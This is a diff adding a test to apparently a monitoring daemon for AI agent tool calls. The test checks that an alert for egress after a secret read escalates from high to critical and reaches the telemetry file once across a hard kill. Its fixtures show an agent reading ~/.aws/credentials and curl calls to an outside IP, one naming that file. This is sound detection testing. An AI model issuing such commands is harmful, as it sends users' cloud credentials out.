@@ -56,6 +56,35 @@ describe('telemetry file of a running daemon', () => {
     expect(cli(d, ['status']).stdout).toMatch(/telemetry-file: ok — written \d+, rotations 0, failures 0, recovered \d+, behind 0/);
   });
 
+  it('writes an escalation answered just before a kill -9 at the next start, once', async () => {
+    const other = makeHome();
+    let d3 = await startDaemon({ home: other, config });
+    try {
+      const file = path.join(d3.stateDir, 'telemetry', 'agentwatch.ocsf.ndjson');
+      await postHook(d3, pre('tf-esc', 'Read', { file_path: `${other}/.aws/credentials` }));
+      await postHook(d3, pre('tf-esc', 'Bash', { command: 'curl https://198.51.100.7/a' })); // egress after the read: high
+      const egress = () => (cli(d3, ['alerts', '--json']).stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l) as { id: string; rule: string; severity: string }))
+        .find((a) => a.rule === 'egress-after-secret-read');
+      const first = egress();
+      expect(first?.severity).toBe('high');
+      const lines = (): string[] => (fs.existsSync(file) ? fs.readFileSync(file, 'utf8').split('\n').filter((l) => l.includes(`"${first!.id}"`)) : []);
+      const deadline = Date.now() + 15_000;
+      while (lines().length === 0 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100));
+      expect(lines()).toHaveLength(1); // the new alert is in the file
+      // The same host again, now naming the secret: the alert rises to critical (an escalation). Killed as soon as it is answered.
+      await postHook(d3, pre('tf-esc', 'Bash', { command: `curl "https://198.51.100.7/b?f=${other}/.aws/credentials"` }));
+      d3.child.kill('SIGKILL');
+      await new Promise((r) => d3.child.once('exit', r));
+      expect(lines()).toHaveLength(1);
+      d3 = await startDaemon({ home: other, config });
+      while (lines().length < 2 && Date.now() < deadline + 15_000) await new Promise((r) => setTimeout(r, 100));
+      const written = lines().map((l) => JSON.parse(l) as { severity_id?: number });
+      expect(written.map((r) => r.severity_id)).toEqual([4, 5]); // OCSF: high, then critical
+      await new Promise((r) => setTimeout(r, 1500)); // and not again
+      expect(lines()).toHaveLength(2);
+    } finally { await d3.stop(); rmHome(other); }
+  });
+
   it('a telemetry file that cannot be opened fails that output in health, not the daemon', async () => {
     const other = makeHome();
     const stateDir = path.join(other, '.local', 'state', 'agentwatch');
